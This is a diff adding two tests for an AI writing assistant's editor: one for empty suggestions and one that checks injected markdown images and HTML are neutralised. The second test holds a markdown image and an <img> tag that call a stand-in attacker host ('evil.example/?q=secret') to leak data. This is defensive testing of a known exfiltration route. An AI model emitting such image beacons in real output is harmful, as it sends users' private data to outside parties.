@@ -55,6 +55,25 @@ describe('the assistant over the source', () => {
     );
   });
 
+  it('offers no deletion where nothing was written', () => {
+    const { surface, text } = open('甲乙丙', 0, 3);
+    for (const nothing of ['', ' \n']) {
+      surface.preview('子', 'replace');
+      surface.review(nothing, 'replace');
+      expect(surface.openChanges()).toBe(0);
+      surface.accept();
+      expect(text()).toBe('甲乙丙');
+    }
+  });
+
+  it('has words for pictures and HTML that the passage did not have', () => {
+    const { surface, text } = open('甲 ![我的](/files/a.png) 乙', 0, 22);
+    const spy = 'https://evil.example/?q=secret';
+    surface.review(`子 ![我的](/files/a.png) ![偷](${spy}) <img src="${spy}">`, 'replace');
+    surface.accept();
+    expect(text()).toContain('子 ![我的](/files/a.png) 偷 \\<img');
+  });
+
   it('tells what was accepted and what it took the place of, and nothing of what was not', () => {
     const { surface } = open('甲乙丙丁', 1, 3);
     const taken: unknown[] = [];
